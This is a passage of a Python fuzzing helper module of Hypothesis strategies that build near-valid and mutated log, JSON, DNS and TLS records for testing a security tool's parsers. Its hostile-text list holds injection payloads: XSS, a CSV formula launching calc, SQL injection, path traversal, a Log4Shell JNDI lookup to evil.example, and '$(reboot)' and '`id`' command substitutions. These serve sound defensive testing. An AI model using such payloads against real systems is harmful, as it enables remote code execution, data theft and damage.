"""Hypothesis strategies shared by the fuzzing suite: near-valid records of every format seccenter reads, and the
mutations that break them (truncation, byte flips, hostile strings, huge fields, invalid UTF-8).

Random bytes mostly test a parser's first check; these start from what the format looks like, so the damage
lands in the fields, lengths and nesting behind it. Holds no tests itself.
"""

from __future__ import annotations

import json
import os
import string
import struct
import uuid
from datetime import timedelta
from typing import Any

import yaml
from hypothesis import settings
from hypothesis import strategies as st
from test_collect_pcap_support import (
    T0,
    client_hello,
    epb,
    ether,
    icmp_echo,
    idb,
    ipv4,
    ipv6,
    pb,
    shb,
    spb,
    tcp,
    tls_record,
    udp,
    vlan_frame,
)

from seccenter.events import Event
from seccenter.store.events import encode_json

LONG = os.environ.get("HYPOTHESIS_PROFILE") == "long"


def fuzz(max_examples: int, **other: Any) -> settings:
    """A fuzzing test's settings: ``max_examples`` inputs on the default profile (CI), the long profile's count
    with ``HYPOTHESIS_PROFILE=long``."""
    return settings(**other) if LONG else settings(max_examples=max_examples, **other)


# --- hostile text --------------------------------------------------------------------------------------------

HOSTILE_TEXT = [
    "\x1b[31mred\x1b[0m", "\x1b]8;;https://evil.example/\x07click\x1b]8;;\x07", "\x1b[2J\x1b[H", "\x9b31m",
    "[red]markup[/red]", "[link=file:///etc/passwd]x[/link]", "[/]", "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>", "=HYPERLINK(\"http://evil.example\")", "=cmd|' /C calc'!A0", "+SUM(1)",
    "@SUM(1)", "'; DROP TABLE events; --", "\" OR \"1\"=\"1", "../../../../etc/passwd", "..\\..\\win.ini",
    "%s%s%n%x", "{0.__class__}", "${jndi:ldap://evil.example/a}", "{{7*7}}", "$(reboot)", "`id`",
    "\x00", "nul\x00byte", "\r", "\x0b\x0c", "\u2028\u2029", "\u0085", "\u202etxt.exe", "\ufeff", "\u200b",
    "²", "١٢٣", "１２３", "٣", "Ⅻ", "e\u0301", "🦀", "𝕏", "\U0010ffff", "\ufffd",
    "-", "(empty)", "#fields", "\\x09", "\\", "\"", "'", "]", "[", "{", "}", ":", "=", ",", ";", " ", "\t", "",
    "9" * 30, "-9223372036854775809", "18446744073709551616", "1e999", "NaN", "-Infinity", "0x1F", "true", "null",
    "9" * 5000, "A" * 70_000,
]
"""Terminal escapes, markup, HTML/JS, CSV formulas, SQL quotes, paths, format strings, control and odd Unicode
characters (digits that are not ASCII among them), numbers at and past 64 bits, and fields too long to keep."""

INVALID_UTF8 = [b"\xff", b"\xfe\xff", b"\xc3", b"\xc0\xaf", b"\xed\xa0\x80", b"\xf4\x90\x80\x80", b"\xe2\x82", b"\x80",
                b"\xef\xbb\xbf"]


def hostile_text(max_size: int = 24) -> st.SearchStrategy[str]:
    return st.one_of(st.sampled_from(HOSTILE_TEXT), st.text(max_size=max_size))


def with_hostile(normal: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """Mostly ``normal`` values, sometimes a hostile string in their place."""
    return st.one_of(normal, normal, normal, hostile_text())


# --- mutations ----------------------------------------------------------------------------------------------

_OPERATIONS = ("truncate", "flip", "set", "insert", "invalid_utf8", "delete", "duplicate", "huge", "random")


@st.composite
def mutated(draw: st.DrawFn, data: bytes, max_operations: int = 3) -> bytes:
    """``data`` with up to ``max_operations`` mutations (none at all, sometimes: the valid input counts too)."""
    buffer = bytearray(data)
    for operation in draw(st.lists(st.sampled_from(_OPERATIONS), max_size=max_operations)):
        at = draw(st.integers(0, len(buffer)))
        if operation == "truncate":
            del buffer[at:]
        elif operation in ("flip", "set") and at < len(buffer):
            if operation == "flip":
                buffer[at] ^= 1 << draw(st.integers(0, 7))
            else:
                buffer[at] = draw(st.sampled_from([0, 0x0A, 0x0D, 0x22, 0x5C, 0x7F, 0x80, 0xFF]) | st.integers(0, 255))
        elif operation == "insert":
            buffer[at:at] = draw(hostile_text()).encode("utf-8", "surrogatepass")
        elif operation == "invalid_utf8":
            buffer[at:at] = draw(st.sampled_from(INVALID_UTF8))
        elif operation == "delete":
            del buffer[at:at + draw(st.integers(1, 64))]
        elif operation == "duplicate":
            buffer[at:at] = buffer[at:at + draw(st.integers(1, 256))]
        elif operation == "huge":
            buffer[at:at] = draw(st.sampled_from([b"A", b"9", b"\\", b"[", b"{", b"\x00"])) * draw(
                st.sampled_from([300, 5000, 70_000]))
        elif operation == "random":
            buffer[at:at + draw(st.integers(0, 16))] = draw(st.binary(min_size=1, max_size=16))
    return bytes(buffer)


def _encode(text: str, encoding: str) -> bytes:
    if encoding == "latin-1":
        return text.encode("latin-1", "replace")
    return text.encode("utf-8", "surrogatepass")


@st.composite
def line_file(draw: st.DrawFn, records: st.SearchStrategy[str], max_records: int = 10) -> bytes:
    """A file of ``records``, one per line: CRLF or LF, blank lines between, Latin-1 lines among UTF-8 ones,
    some records mutated alone and the whole file mutated after."""
    lines = []
    for text in draw(st.lists(records, min_size=1, max_size=max_records)):
        line = _encode(text, draw(st.sampled_from(["utf-8", "utf-8", "utf-8", "latin-1"])))
        if draw(st.integers(0, 4)) == 0:
            line = draw(mutated(line, max_operations=2))
        lines.append(line)
        if draw(st.integers(0, 8)) == 0:
            lines.append(draw(st.sampled_from([b"", b" ", b"\t", b"\r"])))
    newline = draw(st.sampled_from([b"\n", b"\n", b"\r\n"]))
    data = newline.join(lines) + (newline if draw(st.booleans()) else b"")
    if draw(st.booleans()):
        data = b"\xef\xbb\xbf" + data
    return draw(mutated(data, max_operations=2)) if draw(st.booleans()) else data


# --- common values ------------------------------------------------------------------------------------------

_IPV4 = st.builds("{}.{}.{}.{}".format, *[st.integers(0, 255)] * 4)
_IPV6 = st.sampled_from(["2001:db8::1", "::1", "fe80::1%eth0", "::ffff:10.0.0.1", "2001:db8:0:0:0:0:0:zz"])
addresses = with_hostile(st.one_of(_IPV4, _IPV6, st.sampled_from(["localhost", "host.example", "999.1.1.1"])))
ports = st.one_of(st.integers(0, 65535).map(str), st.sampled_from(["99999", "-1", "²", "0x50", ""]))
users = with_hostile(st.sampled_from(["root", "alice", "admin", "ubuntu", "bob smith", "x from 1.2.3.4 port 22"]))
hosts = with_hostile(st.sampled_from(["srv01", "web-1.example", "host.local", "h"]))
PROGRAMS = ["sshd", "sshd-session", "sudo", "su", "useradd", "groupadd", "usermod", "CRON", "systemd",
            "sshd(pam_unix)", "kernel"]
programs = with_hostile(st.sampled_from(PROGRAMS))
digits = st.one_of(st.integers(0, 99999).map(str), st.sampled_from(["²", "١٢", "-1", "4294967296", "9" * 25]))


def _fill(template: str, values: dict[str, st.SearchStrategy[str]]) -> st.SearchStrategy[str]:
    return st.fixed_dictionaries(values).map(lambda found: template.format(**found))


AUTH_MESSAGES = st.one_of(
    _fill("Failed {method} for {invalid}{user} from {ip} port {port} ssh2",
          {"method": st.sampled_from(["password", "publickey", "none"]),
           "invalid": st.sampled_from(["", "invalid user "]), "user": users, "ip": addresses, "port": ports}),
    _fill("Accepted {method} for {user} from {ip} port {port} ssh2{tail}",
          {"method": st.sampled_from(["password", "publickey"]), "user": users, "ip": addresses, "port": ports,
           "tail": st.sampled_from(["", ": RSA SHA256:abc", " [preauth]"])}),
    _fill("Invalid user {user} from {ip} port {port}", {"user": users, "ip": addresses, "port": ports}),
    _fill("Disconnected from {kind}user {user} {ip} port {port} [preauth]",
          {"kind": st.sampled_from(["", "invalid ", "authenticating "]), "user": users, "ip": addresses,
           "port": ports}),
    _fill("Connection closed by {ip} port {port}", {"ip": addresses, "port": ports}),
    _fill("error: maximum authentication attempts exceeded for {user} from {ip} port {port} ssh2",
          {"user": users, "ip": addresses, "port": ports}),
    _fill("reverse mapping checking getaddrinfo for {host} [{ip}] failed", {"host": hosts, "ip": addresses}),
    _fill("Received disconnect from {ip} port {port}:11: bye", {"ip": addresses, "port": ports}),
    _fill("Disconnecting invalid user {user} {ip} port {port}: Too many authentication failures",
          {"user": users, "ip": addresses, "port": ports}),
    _fill("pam_unix({service}:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser={user} "
          "rhost={ip}  user={user}", {"service": with_hostile(st.just("sshd")), "user": users, "ip": addresses}),
    _fill("pam_unix(sudo:session): session opened for user {user}(uid={uid}) by {by}(uid=0)",
          {"user": users, "uid": digits, "by": users}),
    _fill("PAM {count} more authentication failures; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user={user}",
          {"count": digits, "ip": addresses, "user": users}),
    _fill("  {user} : {error}TTY={tty} ; PWD={pwd} ; USER={target} ; COMMAND={command}",
          {"user": users, "error": st.sampled_from(["", "3 incorrect password attempts ; "]),
           "tty": with_hostile(st.just("pts/0")), "pwd": with_hostile(st.just("/home/alice")), "target": users,
           "command": with_hostile(st.just("/bin/bash -c id"))}),
    _fill("FAILED SU (to {target}) {user} on {tty}", {"target": users, "user": users, "tty": hosts}),
    _fill("Successful su for {target} by {user}", {"target": users, "user": users}),
    _fill("new user: name={name}, UID={uid}, GID={gid}, home={home}, shell={shell}",
          {"name": users, "uid": digits, "gid": digits, "home": with_hostile(st.just("/home/x")),
           "shell": with_hostile(st.just("/bin/bash"))}),
    _fill("group added to /etc/group: name={name}, GID={gid}", {"name": users, "gid": digits}),
    _fill("add '{user}' to group '{group}'", {"user": users, "group": users}),
    _fill("message repeated {count} times: [ {inner}]",
          {"count": digits, "inner": st.just("Failed password for root from 10.0.0.1 port 22 ssh2")}),
    hostile_text(),
)
"""Messages of the programs auth.log semantics know (sshd, PAM, sudo, su, useradd…), with hostile fields."""

# --- syslog -------------------------------------------------------------------------------------------------

MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"]
_BSD_STAMP = st.builds("{} {:>2} {:02d}:{:02d}:{:02d}".format, st.sampled_from(MONTHS), st.integers(0, 32),
                       st.integers(0, 25), st.integers(0, 61), st.integers(0, 61))
_ISO_STAMP = st.builds("{:04d}-{:02d}-{:02d}T{:02d}:{:02d}:{:02d}{}{}".format, st.integers(0, 9999), st.integers(0, 13),
                       st.integers(0, 32), st.integers(0, 24), st.integers(0, 60), st.integers(0, 60),
                       st.sampled_from(["", ".1", ".123456", ".1234567891"]),
                       st.sampled_from(["", "Z", "+01:00", "-23:59", "+24:00", "+99:99"]))


@st.composite
def syslog_lines(draw: st.DrawFn) -> str:
    """RFC 3164 lines and rsyslog's RFC 3339 ones, with auth.log messages."""
    pri = draw(st.sampled_from(["", "", "<13>", "<38>", "<191>", "<192>", "<999>"]))
    stamp = draw(st.one_of(_BSD_STAMP, _ISO_STAMP))
    program = draw(programs)
    pid = draw(st.one_of(st.none(), digits))
    tag = "" if draw(st.integers(0, 6)) == 0 else (program if pid is None else f"{program}[{pid}]") + ":"
    return f"{pri}{stamp} {draw(hosts)} {tag} {draw(AUTH_MESSAGES)}"


_SD_VALUE = with_hostile(st.text(alphabet=string.ascii_letters + "\\\"] =", max_size=12))


@st.composite
def syslog5424_lines(draw: st.DrawFn) -> str:
    pri = draw(st.sampled_from(["<13>", "<165>", "<191>", "<192>", "<0>", "<1000>"]))
    version = draw(st.sampled_from(["1", "1", "1", "2", "01", ""]))
    stamp = draw(st.one_of(_ISO_STAMP, st.sampled_from(["-", "2003-10-11T22:14:15.003Z", "yesterday"])))
    fields = [draw(st.one_of(st.just("-"), hosts.filter(lambda text: text and " " not in text)))
              for _ in range(2)]
    procid = draw(st.one_of(st.just("-"), digits))
    msgid = draw(st.sampled_from(["-", "ID47", "]"]))
    elements = []
    for _ in range(draw(st.integers(0, 3))):
        params = " ".join(f'{draw(st.sampled_from(["a", "b", "x=y", "a", ""]))}="{draw(_SD_VALUE)}"'
                          for _ in range(draw(st.integers(0, 3))))
        elements.append(f"[{draw(st.sampled_from(['exampleSDID@32473', 'origin', 'x', '']))} {params}]")
    sd = "".join(elements) or "-"
    message = draw(st.one_of(AUTH_MESSAGES, st.just("")))
    bom = draw(st.sampled_from(["", "\ufeff"]))
    return f"{pri}{version} {stamp} {fields[0]} {fields[1]} {procid} {msgid} {sd} {bom}{message}"


# --- web server logs ----------------------------------------------------------------------------------------

_CLF_STAMP = st.builds("{:02d}/{}/{:04d}:{:02d}:{:02d}:{:02d} {}{:04d}".format, st.integers(0, 32),
                       st.sampled_from(MONTHS + ["Foo"]), st.integers(0, 9999), st.integers(0, 25), st.integers(0, 61),
                       st.integers(0, 61), st.sampled_from(["+", "-"]), st.integers(0, 9999))
_QUOTED = with_hostile(st.sampled_from(["-", "Mozilla/5.0", "http://ref.example/", "curl/8.0"])).map(
    lambda text: text.replace("\\", "\\\\").replace('"', '\\"') if len(text) % 2 else text)
requests = st.one_of(
    st.builds("{} {} {}".format, with_hostile(st.sampled_from(["GET", "POST", "PROPFIND", "get"])),
              with_hostile(st.sampled_from(["/", "/index.php?id=1", "/a b", "http://x/y?z", "*"])),
              st.sampled_from(["HTTP/1.1", "HTTP/1.0", "HTTP/2.0", "HTTP/x"])),
    st.sampled_from(["-", "\\x16\\x03\\x01\\x00", "GET /only-target", ""]),
    hostile_text(),
)


@st.composite
def access_lines(draw: st.DrawFn) -> str:
    vhost = draw(st.sampled_from(["", "", "www.example:443 ", "[2001:db8::1]:80 ", "x:99999 "]))
    request = draw(requests)
    if draw(st.booleans()):
        request = request.replace("\\", "\\\\").replace('"', '\\"')
    status = draw(st.one_of(st.integers(100, 599).map(str), st.sampled_from(["-", "²²²", "1000"])))
    size = draw(st.one_of(st.integers(0, 1 << 70).map(str), st.sampled_from(["-", "9" * 25, "١٢"])))
    tail = f' "{draw(_QUOTED)}" "{draw(_QUOTED)}"' if draw(st.booleans()) else ""
    extra = draw(st.sampled_from(["", "", " 0.123", ' "extra"']))
    return (f"{vhost}{draw(addresses)} - {draw(users)} [{draw(_CLF_STAMP)}] \"{request}\" {status} {size}{tail}"
            f"{extra}")


_DAYS = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"]
_LEVELS = ["emerg", "alert", "crit", "error", "warn", "notice", "info", "debug", "trace8", "fatal"]


@st.composite
def weberror_lines(draw: st.DrawFn) -> str:
    message = draw(with_hostile(st.sampled_from(["File does not exist: /var/www/x", "script '/x.php' not found",
                                                 "open() \"/x\" failed (2: No such file)"])))
    if draw(st.booleans()):
        stamp = (f"{draw(st.sampled_from(_DAYS))} {draw(st.sampled_from(MONTHS))} {draw(st.integers(0, 32)):02d} "
                 f"{draw(st.integers(0, 25)):02d}:{draw(st.integers(0, 61)):02d}:{draw(st.integers(0, 61)):02d}"
                 f"{draw(st.sampled_from(['', '.123456', '.1']))} {draw(st.integers(0, 9999)):04d}")
        module = draw(st.sampled_from(["", "core:", ":", "php7:", "x y:"]))
        parts = [f"[{stamp}]", f"[{module}{draw(st.sampled_from(_LEVELS))}]"]
        if draw(st.booleans()):
            parts.append(f"[pid {draw(digits)}:tid {draw(digits)}]")
        if draw(st.booleans()):
            parts.append(draw(st.sampled_from(["core.c(4270):", "(13)Permission denied:", "(2)x:"])))
        if draw(st.booleans()):
            parts.append(f"[client {draw(addresses)}{draw(st.sampled_from(['', ':50470', ':x']))}]")
        code = draw(st.sampled_from(["", "AH00128: ", "AH1: "]))
        referer = draw(st.sampled_from(["", f", referer: {draw(hostile_text())}"]))
        return " ".join(parts) + f" {code}{message}{referer}"
    stamp = (f"{draw(st.integers(0, 9999)):04d}/{draw(st.integers(0, 13)):02d}/{draw(st.integers(0, 32)):02d} "
             f"{draw(st.integers(0, 25)):02d}:{draw(st.integers(0, 61)):02d}:{draw(st.integers(0, 61)):02d}")
    context = ""
    if draw(st.booleans()):
        context = (f", client: {draw(addresses)}, server: {draw(hosts)}"
                   + draw(st.sampled_from(["", f', request: "{draw(requests)}"']))
                   + draw(st.sampled_from(["", ', upstream: "http://127.0.0.1:9000"']))
                   + draw(st.sampled_from(["", f', host: "{draw(hosts)}"']))
                   + draw(st.sampled_from(["", f', referrer: "{draw(hostile_text())}"'])))
    connection = draw(st.sampled_from(["", "*1 ", "*99999999999999999999 "]))
    return (f"{stamp} [{draw(st.sampled_from(_LEVELS))}] {draw(digits)}#{draw(digits)}: {connection}{message}"
            f"{context}")


# --- JSON ---------------------------------------------------------------------------------------------------

EDGE_NUMBERS = [0, -1, 1 << 63, (1 << 63) - 1, -(1 << 63), -(1 << 63) - 1, (1 << 64) - 1, 1 << 64, 10 ** 30,
                1.5, -0.0, 1e308, 5e-324, float("inf"), float("-inf"), float("nan")]
json_scalars = st.one_of(st.none(), st.booleans(), st.integers(-1000, 1000), st.sampled_from(EDGE_NUMBERS),
                         st.floats(allow_nan=False, allow_infinity=False), hostile_text())
json_values = st.recursive(json_scalars, lambda inner: st.lists(inner, max_size=4)
                           | st.dictionaries(hostile_text(8), inner, max_size=4), max_leaves=12)
timestamps = st.one_of(
    _ISO_STAMP, st.integers(-10 ** 20, 10 ** 20), st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from(["1700000000", "1700000000123", "1700000000123456789", "/Date(1700000000000)/",
                     "/Date(-99999999999999999999)/", "2026-11-25 10:00:00.000", "99999999999999999999", "",
                     "1e400", " 2026-11-25T10:00:00Z "]),
    hostile_text(),
)


def json_text(value: Any, draw: st.DrawFn) -> str:
    """``value`` as one JSON line: ASCII escapes or raw characters (lone surrogates written as escapes, or raw
    so that the bytes are not UTF-8), NaN/Infinity as Python writes them."""
    if draw(st.booleans()):
        return json.dumps(value, ensure_ascii=True)
    return json.dumps(value, ensure_ascii=False)


@st.composite
def json_objects(draw: st.DrawFn) -> str:
    """Generic JSON lines: time fields in every form, nesting (deep too), Windows-looking objects."""
    value: dict[str, Any] = draw(st.dictionaries(hostile_text(8), json_values, max_size=5))
    for name in draw(st.lists(st.sampled_from(["@timestamp", "timestamp", "time", "TimeCreated", "UtcTime"]),
                              max_size=2)):
        value[name] = draw(timestamps)
    if draw(st.integers(0, 3)) == 0:
        value["Channel"] = draw(with_hostile(st.sampled_from(["Security", "Microsoft-Windows-Sysmon/Operational"])))
        value["EventID"] = draw(st.one_of(st.integers(0, 70000), digits, json_values))
    if draw(st.integers(0, 5)) == 0:
        value["Event"] = draw(windows_events())
    if draw(st.integers(0, 8)) == 0:
        depth = draw(st.sampled_from([10, 63, 64, 65, 200]))
        nested: Any = 1
        for _ in range(depth):
            nested = {"a": nested} if draw(st.booleans()) else [nested]
        value["deep"] = nested
    return json_text(value, draw)


_WINDOWS_NAMES = st.sampled_from(["#attributes", "#text", "Data", "Channel", "EventID", "Image", "CommandLine"])


@st.composite
def windows_events(draw: st.DrawFn) -> Any:
    """The ``Event`` object of evtx_dump JSON (also in odd shapes)."""
    system = {
        "EventID": draw(st.one_of(st.integers(0, 70000), digits, st.fixed_dictionaries(
            {"#attributes": st.just({"Qualifiers": 16384}), "#text": st.one_of(st.integers(0, 9999), digits)}))),
        "Channel": draw(with_hostile(st.sampled_from(["Security", "System", "Microsoft-Windows-Sysmon/Operational",
                                                      "Windows PowerShell"]))),
        "Computer": draw(hosts),
        "Provider": {"#attributes": {"Name": draw(hostile_text())}},
        "TimeCreated": {"#attributes": {"SystemTime": draw(timestamps)}},
        "EventRecordID": draw(st.one_of(st.integers(0, 1 << 64), hostile_text())),
    }
    data = draw(st.one_of(st.dictionaries(st.one_of(_WINDOWS_NAMES, hostile_text(8)), json_values, max_size=4),
                          json_values))
    event = {"System": system if draw(st.integers(0, 6)) else draw(json_values), "EventData": data}
    if draw(st.booleans()):
        event["UserData"] = draw(json_values)
    return event


journal_values = st.one_of(
    hostile_text(), st.none(),
    st.lists(st.integers(-1, 256), max_size=12),  # a binary value as byte values (out of range too)
    st.lists(st.one_of(hostile_text(), st.lists(st.integers(0, 255), max_size=4), st.integers()), min_size=1,
             max_size=3),  # a repeated field
    json_values,
)
"""A journal field's value: text, a list of byte values, a repeated field, null, or any JSON."""


@st.composite
def journald_entries(draw: st.DrawFn) -> str:
    entry: dict[str, Any] = {
        "__CURSOR": "s=0;i=1", "__REALTIME_TIMESTAMP": draw(st.one_of(
            st.integers(0, 1 << 64).map(str), st.sampled_from(["", "-1", "²", "9" * 19, "9" * 20]), json_values)),
    }
    for name in ("_HOSTNAME", "SYSLOG_IDENTIFIER", "_COMM", "_PID", "SYSLOG_PID", "_SYSTEMD_UNIT", "PRIORITY", "_UID"):
        if draw(st.booleans()):
            entry[name] = draw(st.one_of(programs if name in ("SYSLOG_IDENTIFIER", "_COMM") else digits,
                                         journal_values))
    entry["MESSAGE"] = draw(st.one_of(AUTH_MESSAGES, AUTH_MESSAGES.map(lambda text: list(text.encode("utf-8",
                                                                                                    "surrogatepass"))),
                                      journal_values))
    entry.update(draw(st.dictionaries(hostile_text(8), journal_values, max_size=3)))
    return draw(st.sampled_from(["", "", "\x1e"])) + json_text(entry, draw)


def _odd(value: st.SearchStrategy[Any]) -> st.SearchStrategy[Any]:
    """A field's usual values, or any JSON value where a type is assumed."""
    return st.one_of(value, value, json_values)


@st.composite
def eve_events(draw: st.DrawFn) -> str:
    """Suricata EVE: alert, dns (v1, v2, v3), http, tls, flow, fileinfo, with sections in odd shapes."""
    event_type = draw(with_hostile(st.sampled_from(["alert", "dns", "http", "tls", "flow", "fileinfo", "anomaly"])))
    event: dict[str, Any] = {
        "timestamp": draw(_odd(st.one_of(_ISO_STAMP, st.just("2026-11-25T10:00:00.123456+0100")))),
        "event_type": event_type, "src_ip": draw(addresses), "src_port": draw(_odd(st.integers(0, 70000))),
        "dest_ip": draw(addresses), "dest_port": draw(_odd(st.integers(0, 70000))), "proto": "TCP",
    }
    sections = {
        "alert": st.fixed_dictionaries({"signature": hostile_text(), "signature_id": _odd(st.integers()),
                                        "severity": _odd(st.integers(1, 4))}),
        "http": st.fixed_dictionaries({"hostname": _odd(hosts), "url": _odd(hostile_text()),
                                       "http_method": _odd(st.sampled_from(["GET", "POST"])),
                                       "http_user_agent": _odd(hostile_text()), "http_refer": _odd(hostile_text()),
                                       "status": _odd(st.one_of(st.integers(0, 999), digits))}),
        "dns": st.fixed_dictionaries({"type": _odd(st.sampled_from(["query", "answer"])), "rrname": _odd(hosts),
                                      "rrtype": _odd(st.sampled_from(["A", "TXT"])), "rdata": _odd(addresses),
                                      "answers": _odd(st.lists(st.fixed_dictionaries({"rdata": json_scalars}),
                                                               max_size=3)),
                                      "grouped": _odd(st.dictionaries(st.just("A"), st.lists(json_scalars))),
                                      "queries": _odd(st.lists(st.fixed_dictionaries(
                                          {"rrname": _odd(hosts), "rrtype": _odd(st.just("A"))}), max_size=3))}),
        "tls": st.fixed_dictionaries({"sni": _odd(hosts), "version": _odd(st.just("TLS 1.3"))}),
    }
    for name, section in sections.items():
        if name == event_type or draw(st.integers(0, 6)) == 0:
            found = draw(_odd(section))
            if isinstance(found, dict):
                found = {key: value for key, value in found.items() if draw(st.integers(0, 4))}
            event[name] = found
    return json_text(event, draw)


ZEEK_PATHS = ["conn", "dns", "http", "ssl", "notice", "weird", "files"]


@st.composite
def zeek_json_entries(draw: st.DrawFn) -> str:
    entry: dict[str, Any] = {
        "ts": draw(st.one_of(st.floats(), st.integers(-(1 << 70), 1 << 70), _ISO_STAMP, st.booleans(), json_values)),
        "uid": draw(_odd(st.just("CHhAvVGS1DHFjwGM9"))), "id.orig_h": draw(addresses),
        "id.orig_p": draw(_odd(st.integers(0, 65535))), "id.resp_h": draw(addresses),
        "id.resp_p": draw(_odd(st.integers(0, 65535))),
    }
    path = draw(st.one_of(st.none(), st.sampled_from(ZEEK_PATHS), hostile_text()))
    if path is not None:
        entry["_path"] = path
    entry.update({"uri": draw(_odd(hostile_text())), "host": draw(_odd(hosts)), "method": draw(_odd(st.just("GET"))),
                  "user_agent": draw(_odd(hostile_text())), "status_code": draw(_odd(st.one_of(st.integers(), digits))),
                  "query": draw(_odd(hosts)), "qtype_name": draw(_odd(st.just("A"))),
                  "answers": draw(_odd(st.lists(addresses, max_size=3)))})
    entry = {key: value for key, value in entry.items() if key == "ts" or draw(st.integers(0, 4))}
    return json_text(entry, draw)


_ZEEK_TYPES = {"ts": "time", "uid": "string", "id.orig_h": "addr", "id.orig_p": "port", "id.resp_h": "addr",
               "id.resp_p": "port", "duration": "interval", "orig_bytes": "count", "local_orig": "bool",
               "tunnel_parents": "set[string]", "answers": "vector[string]", "TTLs": "vector[interval]",
               "query": "string", "status_code": "count", "uri": "string"}
_ZEEK_VALUES = {
    "time": st.one_of(st.floats(0, 2e9).map("{:.6f}".format), st.sampled_from(["nan", "inf", "-1e400", "1e300"])),
    "interval": st.floats(allow_nan=True, allow_infinity=True).map(str),
    "count": st.one_of(st.integers(0, 1 << 70).map(str), digits), "port": digits,
    "bool": st.sampled_from(["T", "F", "X"]), "addr": addresses,
    "set[string]": st.lists(hostile_text(6), max_size=3).map(",".join),
    "vector[string]": st.lists(addresses, max_size=3).map(",".join),
    "vector[interval]": st.lists(st.sampled_from(["1.0", "-", "nan"]), max_size=3).map(",".join),
    "string": hostile_text(),
}


@st.composite
def zeek_tsv_logs(draw: st.DrawFn) -> str:
    """Zeek TSV text: the header (its separator escaped, odd ones too), rows by #types, comments, a second log
    appended after the first (concatenated logs)."""
    parts = []
    for _ in range(draw(st.integers(1, 2))):
        names = draw(st.lists(st.sampled_from(sorted(_ZEEK_TYPES)), min_size=1, max_size=8, unique=True))
        if draw(st.integers(0, 3)) and "ts" not in names:
            names.insert(0, "ts")
        separator = draw(st.sampled_from(["\t", "\t", "\t", "|", " ", ","]))
        escaped = "".join(f"\\x{ord(char):02x}" for char in separator)
        types = [_ZEEK_TYPES[name] for name in names]
        written = draw(st.sampled_from([escaped, escaped, "", "\\xZZ", "\\x7c\\x7c"]))
        header = [f"#separator {written}",
                  f"#set_separator{separator},", f"#empty_field{separator}(empty)", f"#unset_field{separator}-",
                  f"#path{separator}{draw(st.sampled_from(ZEEK_PATHS + ['']))}", f"#open{separator}2026-11-25-10-00-00"]
        header.append(f"#fields{separator}{separator.join(names)}")
        if draw(st.integers(0, 4)):
            header.append(f"#types{separator}{separator.join(types)}")
        rows = []
        for _ in range(draw(st.integers(0, 6))):
            values = [draw(st.one_of(_ZEEK_VALUES[kind], st.sampled_from(["-", "(empty)"]))) for kind in types]
            if draw(st.integers(0, 6)) == 0:
                values = values[:-1] if draw(st.booleans()) else [*values, "extra"]
            rows.append(separator.join(values))
        parts.append("\n".join(header + rows + ([f"#close{separator}2026-11-25-11-00-00"] if draw(st.booleans())
                                                else [])))
    return "\n".join(parts)


# --- packets ------------------------------------------------------------------------------------------------

_LABEL = st.one_of(st.sampled_from([b"www", b"example", b"com", b"xn--nxa", b"_sip", b"a.b", b"\x00", b"\xff\xfe",
                                    b"\x1b[31m", b"[red]", b"<b>", b"A" * 63]),
                   st.binary(min_size=1, max_size=20))
dns_names = st.lists(_LABEL, max_size=5)
_DNS_TYPES = [1, 28, 5, 2, 12, 15, 33, 6, 16, 99, 41, 255, 65, 0xFFFF]


def _name_bytes(labels: list[bytes], pointer: int | None = None) -> bytes:
    encoded = b"".join(bytes([min(len(label), 63)]) + label[:63] for label in labels)
    return encoded + (struct.pack("!H", 0xC000 | pointer) if pointer is not None else b"\0")


@st.composite
def dns_messages(draw: st.DrawFn) -> bytes:
    """A DNS query or response: questions, answers of many types with names compressed (pointers back, forward or
    into themselves), TXT strings, and counts that may lie."""
    body = bytearray()
    name_offsets = [12]

    def name() -> bytes:
        labels = draw(dns_names)
        pointer = None
        if draw(st.booleans()):
            pointer = draw(st.one_of(st.sampled_from(name_offsets), st.integers(0, 0x3FFF)))
        name_offsets.append(12 + len(body))
        return _name_bytes(labels, pointer)

    questions = draw(st.integers(0, 3))
    for _ in range(questions):
        body += name()
        body += struct.pack("!HH", draw(st.sampled_from(_DNS_TYPES)), draw(st.sampled_from([1, 255, 0x8001])))
    answers = draw(st.integers(0, 4))
    for _ in range(answers):
        kind = draw(st.sampled_from(_DNS_TYPES))
        body += name()
        if kind == 1:
            rdata = draw(st.sampled_from([b"\x0a\x00\x00\x01", b"\x01\x02\x03"]))
        elif kind == 28:
            rdata = draw(st.sampled_from([bytes(range(16)), bytes(15)]))
        elif kind in (5, 2, 12):
            rdata = name()
        elif kind == 15:
            rdata = b"\x00\x0a" + name()
        elif kind == 33:
            rdata = b"\x00\x01\x00\x01\x13\xc4" + name()
        elif kind == 6:
            rdata = name() + name() + bytes(20)
        elif kind in (16, 99):
            strings = draw(st.lists(st.binary(max_size=40).map(lambda text: bytes([len(text)]) + text), max_size=3))
            rdata = b"".join(strings) + draw(st.sampled_from([b"", b"\xff"]))
        else:
            rdata = draw(st.binary(max_size=40))
        body += struct.pack("!HHIH", kind, 1, draw(st.integers(0, 0xFFFFFFFF)), len(rdata)) + rdata
    counts = [questions, answers, draw(st.integers(0, 2)), draw(st.integers(0, 2))]
    if draw(st.integers(0, 3)) == 0:
        counts[draw(st.integers(0, 3))] = draw(st.integers(0, 0xFFFF))
    response = draw(st.booleans())
    flags = (0x8000 if response else 0) | draw(st.sampled_from([0, 0, 0, 1, 2, 4, 5, 15])) << 11 | 0x0100 \
        | (0x0080 if response else 0) | draw(st.integers(0, 15))
    return struct.pack("!HHHHHH", draw(st.integers(0, 0xFFFF)), flags, *counts) + bytes(body)


_GREASE = [0x0A0A + 0x1010 * step for step in range(16)]
_U16 = st.one_of(st.sampled_from(_GREASE + [0x1301, 0x1302, 0xC02F, 0x002F, 0x0000, 0xFFFF]), st.integers(0, 0xFFFF))


@st.composite
def client_hellos(draw: st.DrawFn) -> bytes:
    """A TLS ClientHello handshake message: SNI (hostile names too), ALPN, GREASE, odd versions and extensions."""
    sni = draw(st.one_of(st.none(), hosts.filter(lambda name: len(name) < 10_000)))  # (its length is 16 bits)
    hello = client_hello(
        sni=sni, ciphers=draw(st.lists(_U16, max_size=12)),
        alpn=draw(st.lists(st.one_of(st.sampled_from([b"h2", b"http/1.1", b"\x00", b"\xff", b""]),
